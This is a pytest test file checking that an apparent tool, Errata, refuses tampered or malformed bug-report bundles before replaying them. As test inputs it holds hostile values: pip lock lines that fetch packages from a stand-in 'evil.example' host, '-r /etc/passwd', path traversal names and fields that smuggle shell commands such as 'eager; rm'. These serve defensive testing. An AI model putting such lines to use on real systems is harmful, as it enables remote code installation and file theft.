"""A bundle from a stranger is believed only after every check, and then only compared."""

from __future__ import annotations

import hashlib
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from bundles import bundle_of, fake_torch, hidden_case, members_of, rezip, say_four_releases
from factories import REPOSITORY, make_built, make_environment, make_raised
from hypothesis import given
from hypothesis import strategies as st

from errata.commands.bundle.replaying import (
    OpenedBundle,
    Replayed,
    compare_with,
    open_bundle,
    replay,
    unpack,
)
from errata.measuring.lending import Where
from errata.measuring.supply import Silent
from errata.model.errors import CaseProblems, ErrataError, InvalidBundle, UsageProblem
from errata.model.outcome import Outcome, ScriptResult
from errata.plan.frameworks import load_frameworks
from errata.store.archive import archive_bytes

Members = dict[str, bytes]


@pytest.fixture(scope="module")
def members(tmp_path_factory: pytest.TempPathFactory) -> Members:
    """Make a bundle of a case that was measured on four releases."""
    folder = tmp_path_factory.mktemp("bundle")
    runs = hidden_case(folder / "project")
    say_four_releases(runs)
    return members_of(bundle_of(runs), folder)


def opened(folder: Path, content: bytes) -> OpenedBundle:
    path = folder / "x.zip"
    path.write_bytes(content)
    return open_bundle(path)


def refusal(folder: Path, content: bytes) -> str:
    with pytest.raises(InvalidBundle) as caught:
        opened(folder, content)
    assert caught.value.hint
    assert not list(folder.glob("*/")), "something was unpacked"
    return caught.value.message


def changed(members: Members, name: str, content: bytes | None) -> Members:
    kept = {key: value for key, value in members.items() if key != name}
    return kept if content is None else {**kept, name: content}


def edited(members: Members, name: str, edit: Callable[[dict[str, Any]], object]) -> bytes:
    """Edit a JSON member, and write a manifest that fits."""
    plain = json.loads(members[name])
    edit(plain)
    return rezip({**members, name: json.dumps(plain).encode()})


def test_a_bundle_says_what_it_is_about(members: Members, tmp_path: Path) -> None:
    bundle = opened(tmp_path, rezip(members))
    about = bundle.about
    place = (about.case, about.framework.name, about.environment.release)
    assert place == ("torch/one", "torch", "2.15.0")
    assert about.expected[0].type == "ValueError"
    assert bundle.lock.startswith("#")


def test_it_is_unpacked_as_it_is(members: Members, tmp_path: Path) -> None:
    folder = tmp_path / "unpacked"
    folder.mkdir()
    case = unpack(opened(tmp_path, rezip(members)), folder)
    assert (case / "broken.py").read_bytes() == members["case/broken.py"]
    with pytest.raises(FileExistsError):
        unpack(opened(tmp_path, rezip(members)), folder)


@pytest.mark.parametrize("name", ["case/broken.py", "README.md", "signature.json"])
def test_an_altered_member_is_refused(members: Members, tmp_path: Path, name: str) -> None:
    content = rezip({**members, name: members[name] + b" "}, honest=False)
    assert f"was altered: {name!r}" in refusal(tmp_path, content)


def test_a_member_more_or_less_is_refused(members: Members, tmp_path: Path) -> None:
    assert "lacks 'replay.py'" in refusal(
        tmp_path, rezip(changed(members, "replay.py", None), honest=False)
    )
    assert "manifest does not list" in refusal(
        tmp_path, rezip({**members, "evil.py": b""}, honest=False)
    )


def test_a_manifest_that_is_missing_or_no_manifest_is_refused(
    members: Members, tmp_path: Path
) -> None:
    assert "no MANIFEST.json" in refusal(
        tmp_path, archive_bytes(changed(members, "MANIFEST.json", None))
    )
    for text in (b"", b"[]", b"\xff", b'{"schema": 1}', b"[" * 100_000, b'{"schema": true}'):
        refusal(tmp_path, archive_bytes({**members, "MANIFEST.json": text}))


def test_the_manifest_may_not_vouch_for_itself(members: Members, tmp_path: Path) -> None:
    plain = json.loads(members["MANIFEST.json"])
    plain["members"]["MANIFEST.json"] = {"sha256": hashlib.sha256(b"").hexdigest()}
    content = archive_bytes({**members, "MANIFEST.json": json.dumps(plain).encode()})
    assert "altered" in refusal(tmp_path, content)


def test_a_newer_format_is_said_to_be_newer(members: Members, tmp_path: Path) -> None:
    content = edited(members, "signature.json", lambda plain: plain.update(schema=2))
    with pytest.raises(InvalidBundle, match="made by a newer Errata") as caught:
        opened(tmp_path, content)
    assert "upgrade errata" in caught.value.hint


@pytest.mark.parametrize(
    "edit",
    [
        lambda plain: plain.clear(),
        lambda plain: plain.update(schema="1"),
        lambda plain: plain.update(expected=[]),
        lambda plain: plain.update(expected=[{"outcome": "passed"}]),
        lambda plain: plain.update(expected=[{"outcome": "exploded"}]),
        lambda plain: plain.update(expected=[{"outcome": "raised", "message": 3}]),
        lambda plain: plain.update(expected=[{"outcome": "raised", "native": "x"}]),
        lambda plain: plain.update(expected=7),
        lambda plain: plain.update(case="../../x"),
        lambda plain: plain.update(case="a/../b"),
        lambda plain: plain.update(mode="eager; rm"),
        lambda plain: plain.update(backend="tpu"),
        lambda plain: plain.update(framework=None),
        lambda plain: plain.update(environment={"id": "x"}),
        lambda plain: plain["environment"].update(python="3.11; x"),
    ],
)
def test_a_signature_that_makes_no_sense_is_refused(
    members: Members, tmp_path: Path, edit: Callable[[dict[str, Any]], object]
) -> None:
    refusal(tmp_path, edited(members, "signature.json", edit))


@pytest.mark.parametrize(
    "line",
    [
        *("--index-url https://evil.example/simple", "-r /etc/passwd", "-e .", "torch"),
        *("torch @ https://evil.example/x.whl", "torch>=2", "./local.whl", "\ttorch==1"),
        *("torch==1 --config-settings x=y", "--find-links .", "git+https://evil.example/x"),
    ],
)
def test_a_lock_may_only_pin(members: Members, tmp_path: Path, line: str) -> None:
    lock = members["requirements.lock"] + line.encode() + b"\n"
    assert "pins no package" in refusal(tmp_path, rezip({**members, "requirements.lock": lock}))


def test_every_committed_lock_only_pins(members: Members, tmp_path: Path) -> None:
    for path in sorted((REPOSITORY / "envs" / "locks").rglob("*.txt")):
        opened(tmp_path, rezip({**members, "requirements.lock": path.read_bytes()}))


def test_the_scripts_must_be_there(members: Members, tmp_path: Path) -> None:
    for name in ("broken.py", "fixed.py", "case.toml"):
        content = rezip(changed(members, f"case/{name}", None))
        assert f"has no case/{name}" in refusal(tmp_path, content)


def spoilt(members: Members, edits: list[tuple[str, int, bytes]], honest: bool) -> bytes:
    """Put bytes into members, and write the archive as if nothing had happened."""
    names = sorted(members)
    spoiled = dict(members)
    for wish, place, insertion in edits:
        name = wish if wish in members else names[place % len(names)]
        content = spoiled[name]
        at = place % (len(content) + 1)
        spoiled[name] = content[:at] + insertion + content[at + len(insertion) :]
    try:
        return rezip(spoiled, honest=honest)
    except (ValueError, KeyError, TypeError):
        return archive_bytes(spoiled)


@given(
    edits=st.lists(
        st.tuples(
            st.sampled_from(["signature.json", "MANIFEST.json", "requirements.lock", ""]),
            st.integers(0, 50_000),
            st.one_of(st.binary(max_size=6), st.sampled_from([b"null", b"[]", b"{}", b"-1", b'"'])),
        ),
        min_size=1,
        max_size=5,
    ),
    honest=st.booleans(),
)
def test_whatever_is_in_it_gives_only_our_errors(
    tmp_path_factory: pytest.TempPathFactory,
    members: Members,
    edits: list[tuple[str, int, bytes]],
    honest: bool,
) -> None:
    try:
        found = opened(tmp_path_factory.mktemp("fuzz"), spoilt(members, edits, honest))
    except ErrataError as error:
        refused = error
        assert refused.exit_code == 2
    else:
        assert found.about.expected


# Running ------------------------------------------------------------------------------------


FRAMEWORKS = load_frameworks(REPOSITORY / "envs")


@pytest.fixture
def torch_here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Where:
    """Let this interpreter have a framework."""
    monkeypatch.setenv("PYTHONPATH", fake_torch(tmp_path / "fake")["PYTHONPATH"])
    return Where(python=Path(sys.executable))


def run(content: bytes, folder: Path, where: Where) -> Replayed:
    target = folder / "unpacked"
    target.mkdir()
    return replay(opened(folder, content), target, FRAMEWORKS, where, Silent())


def test_the_same_signature_appears_in_another_interpreter(
    members: Members, tmp_path: Path, torch_here: Where
) -> None:
    found = run(rezip(members), tmp_path, torch_here)
    assert found.is_same
    assert found.fixed.outcome is Outcome.PASSED
    assert found.environment == "torch-2.15.0-external"


def test_another_failure_is_not_the_same(
    members: Members, tmp_path: Path, torch_here: Where
) -> None:
    script = members["case/broken.py"].replace(b"ValueError", b"KeyError")
    toml = members["case/case.toml"].replace(b"raise ValueError", b"raise KeyError")
    content = rezip({**members, "case/broken.py": script, "case/case.toml": toml})
    found = run(content, tmp_path, torch_here)
    assert found.parts == ("type", "message", "at")
    assert not found.is_same


def test_a_case_that_is_invalid_is_not_run(
    members: Members, tmp_path: Path, torch_here: Where
) -> None:
    with pytest.raises(CaseProblems):
        run(rezip({**members, "case/case.toml": b"x = 1"}), tmp_path, torch_here)


def test_a_framework_that_is_not_known_here_is_said(
    members: Members, tmp_path: Path, torch_here: Where
) -> None:
    content = edited(members, "signature.json", lambda p: p["framework"].update(name="jax"))
    with pytest.raises(UsageProblem, match="about jax"):
        run(content, tmp_path, torch_here)


@pytest.mark.parametrize(
    "edit",
    [
        lambda plain: plain["framework"].update(name="paddle"),
        lambda plain: plain.update(mode="graph"),
    ],
)
def test_a_bundle_that_contradicts_itself_is_said(
    members: Members, tmp_path: Path, torch_here: Where, edit: Callable[[dict[str, Any]], object]
) -> None:
    with pytest.raises(UsageProblem, match="contradicts itself"):
        run(edited(members, "signature.json", edit), tmp_path, torch_here)


def test_a_device_that_is_missing_here_leaves_it_unsaid(
    members: Members, tmp_path: Path, torch_here: Where, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    content = edited(members, "signature.json", lambda plain: plain.update(backend="ascend"))
    found = run(content, tmp_path, torch_here)
    assert found.inconclusive.startswith("unavailable")
    assert not found.is_same


def test_a_lock_for_another_release_is_refused(members: Members, tmp_path: Path) -> None:
    lock = members["requirements.lock"].replace(b"torch==2.15.0", b"torch==2.14.0")
    with pytest.raises(UsageProblem, match=r"pins torch 2\.14\.0"):
        run(rezip({**members, "requirements.lock": lock}), tmp_path, Where())


def test_an_environment_of_another_framework_is_refused(members: Members, tmp_path: Path) -> None:
    with pytest.raises(UsageProblem, match="environment of paddle"):
        run(rezip(members), tmp_path, Where(environment="paddle-3.3.1"))


def test_what_was_redacted_stands_for_anything(members: Members, tmp_path: Path) -> None:
    bundle = opened(tmp_path, rezip(members))
    at = str(bundle.about.expected[0].at)
    said = make_raised(
        "cannot load /home/x/weights.pt with y: z", kind="ValueError", at=at.replace("<", "[")
    )
    assert compare_with(bundle, make_built(make_environment()), said, said).parts == ()
    other = make_raised("cannot save /home/x", kind="ValueError", at=at)
    assert compare_with(bundle, make_built(make_environment()), other, other).parts == ("message",)


def test_a_failure_of_the_machine_is_no_answer(members: Members, tmp_path: Path) -> None:
    lost = ScriptResult(outcome=Outcome.HARNESS_ERROR, detail="lost")
    found = compare_with(
        opened(tmp_path, rezip(members)), make_built(make_environment()), lost, lost
    )
    assert found.inconclusive == "harness-error: lost"
    assert not found.is_same
